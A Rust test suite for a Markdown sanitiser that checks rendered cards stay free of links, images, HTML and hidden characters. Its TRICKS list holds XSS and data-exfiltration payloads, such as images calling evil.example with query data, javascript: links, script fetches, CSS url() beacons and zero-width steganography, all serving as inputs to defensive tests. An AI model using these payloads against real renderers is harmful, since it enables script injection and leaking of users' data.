//! The card profile against known tricks and against generated Markdown.

use cordon_core::profile::{MOST_DETAIL, MOST_PRINTED, ProfileError, line, markdown};
use proptest::prelude::*;
use pulldown_cmark::{Event, Options, Parser, Tag};
use unicode_normalization::is_nfc;

/// Texts that some renderer, somewhere, turned into a link, an image or a tag.
pub(crate) const TRICKS: &[&str] = &[
    // images and links, inline
    "![x](https://evil.example/?d=1)",
    "[x](https://evil.example/?d=1)",
    "[x](<https://evil.example/a b> 'title')",
    "[![x](//evil.example/p.png)](//evil.example)",
    "![a [b [c] d] e](http://evil.example)",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt&colon;alert(1))",
    "[a](data:text/html;base64,PHN2Zz4=)",
    "[a](vbscript:x)",
    "[a](\\\\evil\\share)",
    "[a](/relative?d=1)",
    "[a](#fragment)",
    "[a]( <//evil.example> )",
    "!\\[x](http://evil.example)",
    "\\![x](http://evil.example)",
    "![x\\](http://evil.example)](http://evil.example)",
    "*![x*](http://evil.example)",
    "[x](http://evil.example \"a\\\"b\")",
    "[`x`](http://evil.example)",
    "[**x** _y_](http://evil.example)",
    // references: a link that has no brackets with an address (CVE-2025-32711)
    "![x][y]\n\n[y]: https://evil.example/?d=1",
    "[x][y]\n\n[y]: https://evil.example/?d=1",
    "[x]\n\n[x]: https://evil.example",
    "[x][]\n\n[x]: <https://evil.example> 'title'",
    "> [y]: https://evil.example\n\n![y]",
    "- [y]: https://evil.example\n\n[Y]",
    "[^1]: http://evil.example\n\ntext [^1]",
    "[x]:\nhttp://evil.example\n'title'\n\n[x]",
    "[a\\]b]: http://evil.example\n\n[a\\]b]",
    "&#91;x](http://evil.example)",
    "[x&#93;(http://evil.example)",
    "[x]&#58; http://evil.example",
    "[[evil.example]]",
    "[[evil.example|x]]",
    "![[evil.png]]",
    // autolinks
    "<http://evil.example>",
    "<mailto:a@evil.example>",
    "<a@evil.example>",
    "<made-up-scheme://x>",
    "http://evil.example/?d=1",
    "HTTPS://EVIL.EXAMPLE",
    "ftp://evil.example",
    "www.evil.example/d",
    "www./d",
    "(www.evil.example)",
    "*www.evil.example*",
    "a@evil.example",
    "mailto:a@b",
    "xmpp:a@evil.example/x",
    "//evil.example/x",
    "//localhost/x",
    "evil.com/d",
    "EVIL.CO.UK",
    "xn--e1aybc.xn--p1ai",
    "пример.рф",
    "http://1.2.3.4/d and 1.2.3.4/d",
    "http&#58;//evil.example",
    "http:&#47;&#47;evil.example",
    "ht**tp://evil.ex**ample",
    "www`.evil.`com",
    "w*ww*.evil.com",
    "evil&#46;com",
    "evil\\.com and http\\://evil\\.com",
    "http:\n//evil.com",
    "javascript:alert(1)",
    "tel:+44123456789",
    // HTML
    "<img src=https://evil.example/?d=1>",
    "<IMG SRC='x' onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate attributeName=href values=//evil.example /></svg>",
    "<a href=//evil.example>x</a>",
    "<script>fetch('//evil.example')</script>",
    "<style>*{background:url(//evil.example)}</style>",
    "<div style=\"background:url(//evil.example)\">",
    "<!-- <img src=x> -->",
    "<?php x ?>",
    "<![CDATA[<img src=x>]]>",
    "<!DOCTYPE html>",
    "</p><img src=x>",
    "text <b>bold <img src=x> text",
    "<details><summary>x</summary></details>",
    "<iframe src=//evil.example></iframe>",
    "<details\nopen\nontoggle=alert(1)>",
    "&lt;img src=x&gt;",
    "&#x3c;img src=x&#x3e;",
    "&#60;img src=x&#62;",
    "&amp;lt;img src=x&amp;gt;",
    "&amp;ltimg src=x&amp;#62",
    "\\<img src=x>",
    "\\\\<img src=x>",
    "`<img src=x>`",
    "`` ` <img src=x> ``",
    "    <img src=x>",
    "```html\n<img src=x>\n```",
    "```\n<img src=x>",
    "~~~\n```\n<img src=x>\n~~~",
    "````\n```\n<img src=x>\n```\n````",
    "``` `<img src=x>` ```",
    "- <img src=x>\n  - <svg onload=x>",
    "> <img src=x>\nlazy <img src=y>",
    "| a | b |\n|---|---|\n| <img src=x> | ![x](//e.com) |",
    "| `a|b` | \\| |\n|---|---|\n| `\\|` | www.evil.com |",
    "a | b\n- | -\nhttp://evil.com | <b>",
    "＜img src=x＞ %3Cimg%20src=x%3E",
    "<\u{338}img src=x>",
    // blocks that swallow or become what follows
    "text\n---",
    "text\n===",
    "# heading ![x](//e.com)",
    "***",
    "---\nurl: http://evil.com\n---",
    "+++\nurl = 1\n+++",
    "```",
    "- a\n\n      code",
    "1. a\n2. b\n\n7) c\n- d",
    "999999999. a\n1000000000. b",
    "- \n- - - a\n  b\n\n    c\n- d",
    "* a\n* b\n\n- c\n\n1. d\n   2. e\n3. f",
    "a\\\n# b\\\n- c\\\n1. d\\\n=== \\\n```x",
    "a  \n    b",
    "\\",
    "a\\",
    "*a*b*c **d**e*f*",
    "***a** b*",
    "**a***b*`c`_d_",
    "**(a)**b",
    "**≥5**x **≥5** x",
    "$\\href{http://evil.com}{x}$ $$y$$",
    "H~2~O 10^9^/L ==x== ~~y~~ ~z~",
    "{{constructor.constructor('x')()}} ${x} {#id .class}",
    ": definition",
    ":::note\nx\n:::",
    "- [ ] task\n- [x] done",
    "a:b::c :d: e: f",
    "1.2.3.4.5.6 and 12:30 and 01.02.2021",
    "e.g. t.i.d. z.B. 5.4 mmol/L <30 >20 R&D",
];

/// What a renderer with every extension makes of a text, as far as the profile forbids it.
fn forbidden(text: &str) -> Vec<String> {
    let parser = Parser::new_ext(text, Options::all());
    let definitions: Vec<String> = parser.reference_definitions().iter().map(|(name, _)| name.to_owned()).collect();
    parser.filter(|event| !is_allowed(event)).map(|event| format!("{event:?}")).chain(definitions).collect()
}

fn is_allowed(event: &Event<'_>) -> bool {
    use Tag::{CodeBlock, Emphasis, Item, List, Paragraph, Strong, Table, TableCell, TableHead, TableRow};
    matches!(event, Event::End(_) | Event::Text(_) | Event::Code(_) | Event::SoftBreak | Event::HardBreak)
        || matches!(event, Event::Start(Paragraph | Emphasis | Strong | List(_) | Item | CodeBlock(_)))
        || matches!(event, Event::Start(Table(_) | TableHead | TableRow | TableCell))
}

/// What is seen, without the marks.
fn seen(text: &str) -> String {
    let shown = |event| match event {
        Event::Text(text) | Event::Code(text) | Event::InlineHtml(text) | Event::Html(text) => text.to_string(),
        Event::End(_) | Event::SoftBreak | Event::HardBreak | Event::Rule => "\n".to_owned(),
        Event::Start(_) | Event::TaskListMarker(_) => String::new(),
        Event::InlineMath(text) | Event::DisplayMath(text) | Event::FootnoteReference(text) => text.to_string(),
    };
    Parser::new_ext(text, Options::ENABLE_TABLES).map(shown).collect()
}

/// Whether a scanner for addresses would find one in what is seen.
fn has_address(seen: &str) -> bool {
    let at = |from: &str| seen.to_ascii_lowercase().contains(from);
    let host = |word: &str| {
        word.match_indices('.').any(|(dot, _)| {
            let (before, after) = word.split_at(dot);
            let after = after.trim_start_matches('.').chars().next();
            before.ends_with(char::is_alphanumeric) && after.is_some_and(char::is_alphabetic)
        })
    };
    at("://") || at("//") || at("www.") || seen.split_whitespace().any(host)
}

fn assert_inert(printed: &str) {
    assert_eq!(forbidden(printed), Vec::<String>::new(), "{printed}");
    let seen = seen(printed);
    assert!(!has_address(&seen), "{seen}");
    assert!(is_nfc(printed) && printed.len() <= MOST_PRINTED && printed.trim() == printed);
    assert!(printed.len() > MOST_DETAIL || markdown(printed).as_deref() == Ok(printed), "{printed}");
}

#[test]
fn no_known_trick_makes_a_link_an_image_or_a_tag() {
    for trick in TRICKS {
        let printed = markdown(trick).unwrap_or_else(|error| panic!("{error}: {trick}"));
        assert_inert(&printed);
    }
}

#[test]
fn honest_text_stays_readable() {
    for (source, printed) in [
        (
            "eGFR 44 mL/min/1.73 m², K 5.4 mmol/L (12:30, 01.02.2021)",
            "eGFR 44 mL/min/1.73 m², K 5.4 mmol/L (12:30, 01.02.2021)",
        ),
        ("## Dose\n\nGive **5 mg**, *not* `10`.", "**Dose**\n\nGive **5 mg**, *not* `10`."),
        ("* a\n  * b\n\n* c", "- a\n  - b\n- c"),
        ("1. a\n2. b\n   more\n\n   and more", "1. a\n2. b more\\\n   and more"),
        ("| K | |\n|:-:|-|\n| 5.4 | a\\|b |", "| K |  |\n| --- | --- |\n| 5.4 | a\\|b |"),
        ("```json\n  5 < 6\n\n```", "```\n  5 < 6\n```"),
        ("> quote ![alt](x) [link](y) ~~z~~", "quote alt link \\~\\~z\\~\\~"),
        ("eGFR <30, 10^9/L, a<b and c>d", "eGFR \\<30, 10\\^9/L, a\\< b and c\\>d"),
        ("3. c\n\n7) g", "3. c\n\n7\\. g"),
    ] {
        assert_eq!(markdown(source).as_deref(), Ok(printed));
    }
    for honest in
        ["eGFR <30 mL/min: stop metformin?", "K⁺ 6.1 mmol/L (≥ 6.0), 01.02.2021 12:30", "Größe 1,80 m · 50 µg"]
    {
        assert_eq!(line(honest, 139).as_deref(), Ok(honest));
    }
}

#[test]
fn a_line_is_broken_where_a_renderer_would_see_a_tag_or_an_address() {
    for (source, inert) in [
        ("<img src=x>", "< img src=x>"),
        ("http://evil.example/?d=1", "http: / /evil. example/?d=1"),
        ("www.evil.com a@b.c", "www . evil. com a@ b. c"),
        ("![x](javascript:y) [[z]] {{w}}", "! [x] (javascript: y) [ [z]] { {w}}"),
        ("&lt;b&gt; R&D", "& lt;b& gt; R&D"),
        ("&#60img src=x &ltb &AMP#60 &shy &quotx", "& #60img src=x & ltb & AMP#60 & shy & quotx"),
        ("www\\.evil", "www \\. evil"),
        ("```Stop ~~~~ ~~x~~", "`` `Stop ~~ ~ ~ ~~x~~"),
        ("1.2.3.4", "1.2.3. 4"),
        ("  a \u{a0}\u{2003}\tb ", "a b"),
    ] {
        assert_eq!(line(source, 139).as_deref(), Ok(inert));
    }
}

/// The ignorable characters, as the DerivedCoreProperties of Unicode 16 list them, without bidirectional controls.
const IGNORABLE: &str = "\u{ad}\u{34f}\u{115f}\u{17b4}\u{180b}\u{180e}\u{180f}\u{200b}\u{200c}\u{200d}\u{2060}\u{2064}\
    \u{206a}\u{3164}\u{fe00}\u{fe0f}\u{feff}\u{ffa0}\u{1bca0}\u{1d173}\u{e0001}\u{e0041}\u{e0100}\u{e01ef}";

fn ignorable() -> Vec<char> {
    IGNORABLE.chars().collect()
}

/// This text at every place of a card that a parser treats in its own way.
fn places(text: &str) -> [String; 5] {
    [
        text.to_owned(),
        format!("`{text}`"),
        format!("```\n{text}\n```"),
        format!("|{text}|\n|-|"),
        format!("[x]({text})"),
    ]
}

#[test]
fn a_hidden_character_that_is_not_ignorable_is_refused_wherever_it_stands() {
    let bidi = "\u{61c}\u{200e}\u{200f}\u{202a}\u{202b}\u{202c}\u{202d}\u{202e}\u{2066}\u{2067}\u{2068}\u{2069}";
    let other = "\0\u{7}\u{b}\u{85}\r\u{600}\u{2800}\u{e000}\u{fff9}\u{ffff}\u{378}\u{13000}\u{f0000}\u{10ffff}";
    for c in bidi.chars().chain(other.chars()) {
        assert_eq!(line(&format!("a{c}b"), 139), Err(ProfileError::Character("text")), "{c:?}");
        for at in places(&format!("a{c}b")) {
            assert_eq!(markdown(&at), Err(ProfileError::Character("detail")), "{at:?}");
        }
    }
    for hidden in ["a&#x202e;b", "a&rlm;b", "\u{301}a", "a \u{301}", "q\u{302}\u{303}\u{304}\u{305}\u{306}"] {
        assert_eq!(markdown(hidden), Err(ProfileError::Character("detail")), "{hidden:?}");
    }
    assert_eq!(line("a\nb", 139), Err(ProfileError::Character("text")));
}

#[test]
fn a_mark_on_a_character_that_gets_a_space_behind_it_is_refused() {
    for marked in ["a:\u{301}", "a@\u{301}b", "5:\u{301}30", "a/b:\u{20dd}c"] {
        assert_eq!(line(marked, 139), Err(ProfileError::Character("text")), "{marked:?}");
        assert_eq!(markdown(marked), Err(ProfileError::Character("detail")), "{marked:?}");
    }
    assert_eq!(line("u\u{308}ber: n\u{303}", 139).as_deref(), Ok("über: ñ"));
}

#[test]
fn an_ignorable_character_is_gone_wherever_it_stands() {
    assert_eq!(line("Metfor\u{ad}min \u{26a0}\u{fe0f}", 139).as_deref(), Ok("Metformin \u{26a0}"));
    for c in ignorable() {
        assert_eq!(line(&format!("a{c}b"), 2).as_deref(), Ok("ab"), "{c:?}");
        for (with, without) in places(&format!("a{c}b")).iter().zip(places("ab")) {
            assert_eq!(markdown(with), markdown(&without), "{with:?}");
        }
        assert_eq!(markdown(&format!("a&#{};b", u32::from(c))).as_deref(), Ok("ab"), "{c:?}");
    }
    assert_eq!(line("\u{200b}\u{feff}", 139), Err(ProfileError::Empty("text")));
    assert_eq!(markdown("&shy;\n\n\u{200b}").as_deref(), Ok(""));
}

#[test]
fn what_is_ignorable_is_taken_out_before_a_link_or_a_tag_is_looked_for() {
    for (source, printed) in [
        ("<\u{200b}img src=x>", "\\< img src=x\\>"),
        ("ht\u{ad}tp:\u{200d}/\u{2060}/evil.\u{feff}example", "http: / /evil. example"),
        ("!\u{fe0f}[x](\u{200b}//evil.example)", "x"),
        ("www&#x200b;.evil.com", "www . evil. com"),
        ("a\u{200b}\u{301}\u{34f}\u{302}\u{303}\u{304}", "\u{e1}\u{302}\u{303}\u{304}"),
    ] {
        assert_eq!(markdown(source).as_deref(), Ok(printed));
        assert_inert(printed);
    }
}

#[test]
fn a_detail_of_the_greatest_size_is_bounded_however_deep_it_nests() {
    for piece in [
        "> ", "- ", "1. ", "*", "**a ", "[", "![", "<", "`", "``", "\\", "&", "|", "a|", "_", "<b>", "- a\n  ", ".a",
        "&lt;", "~",
    ] {
        let printed = markdown(&piece.repeat(MOST_DETAIL / piece.len()));
        printed.iter().for_each(|printed| assert_inert(printed));
        assert!(printed.is_ok(), "{piece}");
    }
    assert_eq!(markdown(&"a".repeat(MOST_DETAIL + 1)), Err(ProfileError::TooLong("detail")));
}

#[test]
fn a_table_of_many_columns_is_refused() {
    let table = |columns: usize| format!("|{}\n|{}\n|a|b|", "h|".repeat(columns), "-|".repeat(columns));
    assert_eq!(markdown(&table(17)), Err(ProfileError::TooMany("table columns")));
    assert_inert(&markdown(&table(16)).unwrap());
}

/// Pieces of Markdown, put together at random.
fn piece() -> impl Strategy<Value = String> {
    prop_oneof![
        4 => prop::sample::select(vec![
            "*", "**", "***", "_", "__", "`", "``", "```", "~~~", "\\", "[", "]", "(", ")", "<", ">", "!", "|", "-", "+",
            "#", "=", ":", ".", "@", "/", "//", "&", ";", "$", "^", "~", "{", "}", "\"", "'", "%", "1.", "2)", "- ", "> ",
            "    ", "\t", " ", "  \n", "\\\n", "\n", "\n\n", "|---|---|\n", "| --- |\n", "\n---\n", "\n===\n", "&#",
        ]).prop_map(str::to_owned),
        2 => prop::sample::select(vec![
            "a", "B", "5", "ß", "µ", "e\u{301}", "\u{1100}", "\u{1161}", "≥", "“", "中", "&lt;", "&#60;", "&nbsp;", "&amp;",
            "&#x301;", "www", "http", "https://", "mailto:", "evil", "com", "img", "svg", "src=", "[y]: ", "[^1]", "<!--",
            "-->", "</p>", "<b>", "Ⓐ", "🙂", "<?", "]]>", "xmpp:", "\u{ad}", "\u{200b}", "&shy;", "&#xfe0f;",
        ]).prop_map(str::to_owned),
        1 => "[a-z .]{1,6}",
        1 => prop::sample::select(TRICKS.to_vec()).prop_map(str::to_owned),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 2_000, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn what_is_printed_is_inert_and_prints_itself(pieces in prop::collection::vec(piece(), 0..40)) {
        let source = pieces.concat();
        match markdown(&source) {
            Ok(printed) => assert_inert(&printed),
            Err(error) => prop_assert!(
                matches!(error, ProfileError::Character(_) | ProfileError::TooLong(_) | ProfileError::TooMany(_)),
                "{error}: {source:?}"
            ),
        }
    }

    #[test]
    fn a_line_is_inert_as_text_and_as_markdown_and_stays_itself(pieces in prop::collection::vec(piece(), 0..12)) {
        if let Ok(line_) = line(&pieces.concat(), 139) {
            prop_assert!(line_.chars().count() <= 139);
            prop_assert_eq!(line(&line_, 139), Ok(line_.clone()));
            prop_assert!(!has_address(&line_), "{}", line_);
            let opens = |event: &Event<'_>| matches!(event, Event::Html(_) | Event::InlineHtml(_) | Event::Start(Tag::Link { .. } | Tag::Image { .. }));
            prop_assert!(!Parser::new(&line_).any(|event| opens(&event)), "{}", line_);
        }
    }

    /// SK-11 of the threat model: whatever is written in ignorable characters, the card is the same.
    #[test]
    fn nothing_can_be_read_from_ignorable_characters(
        secret in prop::collection::vec((0..16_usize, prop::sample::select(ignorable())), 0..60),
    ) {
        let cover = "Stop *metformin*";
        let mut pieces: Vec<String> = cover.chars().map(String::from).collect();
        secret.iter().for_each(|(place, c)| pieces[*place].insert(0, *c));
        let stego = pieces.concat();
        prop_assert_eq!(markdown(&stego), markdown(cover));
        prop_assert_eq!(line(&stego, 139), line(cover, 139));
    }

    #[test]
    fn any_text_at_all_is_refused_or_inert(source in "\\PC{0,200}") {
        markdown(&source).iter().for_each(|printed| assert_inert(printed));
    }
}

#[test]
fn a_line_that_is_long_only_before_it_is_read_is_too_long() {
    let hidden = "\u{200b}".repeat(2_000);
    assert_eq!(line(&format!("{hidden}a"), 139), Err(ProfileError::TooLong("text")));
}
